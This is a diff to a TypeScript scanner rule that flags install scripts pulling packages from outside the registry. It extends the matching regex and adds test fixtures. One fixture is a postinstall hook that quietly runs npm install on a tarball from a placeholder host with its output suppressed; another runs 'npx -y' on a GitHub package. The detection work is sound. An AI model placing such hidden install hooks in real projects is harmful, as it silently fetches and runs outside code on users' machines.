@@ -11,7 +11,7 @@ type Starts = Extract<Fact, { kind: 'starts' }>
 
 /** Package managers that are told to take a package from somewhere else than their registry. */
 const installers =
-  /\b(?:npm|pnpm|yarn|bun)(?:\.cmd)?\s+(?:\S+\s+){0,3}?(?:install|i|add|exec|x|dlx)\s|\b(?:npx|bunx|pnpx)(?:\.cmd)?\s|\b(?:pip[0-9.]*|uv\s+pip|pipx)\s+(?:\S+\s+){0,3}?install\s|-m\s+pip\s+install\s|\bgem\s+install\s|\bcargo\s+install\s|\bgo\s+install\s/
+  /\b(?:npm|pnpm|yarn|bun)(?:\.cmd)?\s+(?:\S+\s+){0,3}?(?:install|i|add|exec|x|dlx)\s|\b(?:npx|bunx|pnpx)(?:\.cmd)?\s|\bnode(?:\.exe)?\s+(?:\S{0,200}npm-cli\.js|\u0001)\s+(?:\S+\s+){0,3}?(?:install|i|add|exec|x)\s|\b(?:pip[0-9.]*|uv\s+pip|pipx)\s+(?:\S+\s+){0,3}?install\s|-m\s+pip\s+install\s|\bgem\s+install\s|\bcargo\s+install\s|\bgo\s+install\s/
 
 /** A package by its name, which a package manager fetches, or fetches and starts. */
 const byName =
@@ -65,6 +65,14 @@ export const foreignInstall: Rule = {
           files: {
             'package.json':
               '{"name":"a","version":"1.0.0","repository":"github:a-team/a","scripts":{"postinstall":"npx -y github:other-people/setup"}}',
+          },
+        },
+        {
+          title: 'a hook starts the npm that started it, with the address of a tarball',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node more.js"}}',
+            'more.js':
+              "const { execFileSync } = require('child_process')\nfor (const from of ['https://runtime-parts.invalid/r.tgz'])\n  execFileSync(process.execPath, [process.env.npm_execpath, 'install', from, '--no-save'], { stdio: 'ignore' })\n",
           },
         },
         {
